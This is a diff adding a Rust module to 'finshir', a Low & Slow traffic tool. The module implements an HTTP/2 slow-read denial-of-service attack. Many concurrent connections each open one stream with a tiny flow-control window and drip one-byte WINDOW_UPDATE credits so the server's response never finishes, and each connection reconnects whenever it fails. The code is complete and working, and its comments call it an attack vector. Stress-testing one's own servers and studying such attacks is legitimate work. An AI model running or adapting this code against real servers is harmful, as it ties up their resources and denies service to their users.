@@ -0,0 +1,198 @@
+// finshir: A coroutines-driven Low & Slow traffic sender, written in Rust
+// Copyright (C) 2019  Temirkhan Myrzamadi <gymmasssorla@gmail.com>
+//
+// This program is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// (at your option) any later version.
+//
+// This program is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+//
+// You should have received a copy of the GNU General Public License
+// along with this program.  If not, see <https://www.gnu.org/licenses/>.
+//
+// For more information see <https://github.com/Gymmasssorla/finshir>.
+
+//! The HTTP/2 slow-read / slow-stream tester, run instead of `testing::run`
+//! when `--http2` is passed.
+//!
+//! Unlike the byte-stream attack, HTTP/2's low-and-slow vector is
+//! stream-level, not connection-level: a tiny flow-control window lets us
+//! open a stream and then drip minimal WINDOW_UPDATE frames just fast enough
+//! to keep it stalled indefinitely, without ever letting the server finish
+//! sending its response. `--connections` many of these connect-and-stall
+//! loops run concurrently, each contributing one stalled stream, so the
+//! total stalled-stream count matches `--connections` the same way the
+//! byte-stream tester's stalled-connection count does.
+//!
+//! Driving h2 connections requires a real async executor, so every
+//! `--http2` connection runs as a task on one Tokio runtime shared across
+//! the whole test (built once by `testing::run`), instead of each one
+//! spinning up its own.
+
+use std::io;
+use std::sync::Arc;
+use std::time::Duration;
+
+use h2::client;
+use http::Request;
+use tokio::net::TcpStream;
+use tokio::time;
+use tokio_rustls::TlsConnector;
+
+use crate::config::{HooksConfig, Http2Config, SocketConfig};
+use crate::hooks::{self, Event};
+use crate::reload::{ConnectionState, ReloadableState};
+use crate::tls;
+
+pub async fn run(
+    socket_config: SocketConfig,
+    http2_config: Http2Config,
+    hooks_config: HooksConfig,
+    write_periodicity: Duration,
+    state: Arc<ReloadableState>,
+    conn_id: u64,
+) {
+    // Mirrors run_tester's lifecycle bookkeeping: active_connections/the
+    // per-state counters and the connect/reconnect/exit hooks all come from
+    // the same ReloadableState every byte-stream coroutine shares, so
+    // `stats` and --hook-on-* behave the same way whether or not `--http2`
+    // is in play. The control socket's `pause` and `set-periodicity` have no
+    // effect here: WINDOW_UPDATE frames keep following the
+    // `write_periodicity` given at startup. There are no data portions to
+    // hot-reload in this mode, so SIGHUP simply has nothing to do here.
+    state.enter_state(ConnectionState::Connecting);
+    let mut is_reconnect = false;
+
+    loop {
+        if let Err(err) = attempt(
+            &socket_config,
+            &http2_config,
+            &hooks_config,
+            write_periodicity,
+            &state,
+            conn_id,
+            is_reconnect,
+        )
+        .await
+        {
+            error!(
+                "The HTTP/2 connection failed >>> {}! Reconnecting...",
+                err
+            );
+        }
+
+        is_reconnect = true;
+    }
+}
+
+// Expects the caller to have already entered `ConnectionState::Connecting`,
+// and always leaves it there on return -- the state only moves to `Sending`
+// (and active_connections/hooks only fire) once the handshake has actually
+// succeeded, matching `connect_socket`/`run_tester`'s balance in testing.rs.
+async fn attempt(
+    socket_config: &SocketConfig,
+    http2_config: &Http2Config,
+    hooks_config: &HooksConfig,
+    write_periodicity: Duration,
+    state: &ReloadableState,
+    conn_id: u64,
+    is_reconnect: bool,
+) -> io::Result<()> {
+    let tcp = TcpStream::connect(socket_config.receiver).await?;
+    tcp.set_nodelay(true).expect("Cannot disable TCP_NODELAY");
+
+    let (mut send_request, connection) = if socket_config.tls {
+        let config = tls::build_client_config(socket_config, vec![b"h2".to_vec()]);
+        let server_name = tls::server_name(socket_config)?;
+        let stream = TlsConnector::from(std::sync::Arc::new(config))
+            .connect(server_name.as_ref(), tcp)
+            .await?;
+
+        client::Builder::new()
+            .initial_window_size(http2_config.initial_window_size)
+            .initial_connection_window_size(http2_config.initial_window_size)
+            .handshake(stream)
+            .await
+    } else {
+        client::Builder::new()
+            .initial_window_size(http2_config.initial_window_size)
+            .initial_connection_window_size(http2_config.initial_window_size)
+            .handshake(tcp)
+            .await
+    }
+    .map_err(to_io_error)?;
+
+    state.leave_state(ConnectionState::Connecting);
+    state.enter_state(ConnectionState::Sending);
+    state.connection_opened();
+    if is_reconnect {
+        state.record_reconnect();
+    }
+    hooks::fire(
+        if is_reconnect {
+            Event::Reconnect
+        } else {
+            Event::Connect
+        },
+        hooks_config,
+        socket_config.receiver,
+        conn_id,
+        0,
+    );
+
+    // One stream per connection: `--connections` already picks how many of
+    // these connect-and-stall loops run concurrently, so opening exactly one
+    // stream here is what makes the total stalled-stream count match
+    // `--connections`, the same quantity the byte-stream tester spends on
+    // stalled connections.
+    let request = Request::builder()
+        .method("GET")
+        .uri("/")
+        .body(())
+        .expect("Building the HTTP/2 request has failed");
+
+    match send_request.send_request(request, true) {
+        Ok((response, _send_stream)) => {
+            tokio::spawn(stall_stream(response, write_periodicity));
+        }
+        Err(err) => error!("Failed to open an HTTP/2 stream >>> {}!", err),
+    }
+
+    let result = connection.await.map_err(to_io_error);
+
+    state.leave_state(ConnectionState::Sending);
+    state.connection_closed();
+    hooks::fire(Event::Exit, hooks_config, socket_config.receiver, conn_id, 0);
+    state.enter_state(ConnectionState::Connecting);
+
+    result
+}
+
+// Waits for a stream's response headers, then trickles just enough
+// WINDOW_UPDATE credit to keep it alive without ever draining its body.
+async fn stall_stream(response: client::ResponseFuture, write_periodicity: Duration) {
+    let response = match response.await {
+        Ok(response) => response,
+        Err(err) => {
+            error!("An HTTP/2 stream failed before responding >>> {}!", err);
+            return;
+        }
+    };
+
+    let mut body = response.into_body();
+    loop {
+        if body.flow_control().release_capacity(1).is_err() {
+            return;
+        }
+
+        time::sleep(write_periodicity).await;
+    }
+}
+
+fn to_io_error(err: h2::Error) -> io::Error {
+    io::Error::new(io::ErrorKind::Other, err)
+}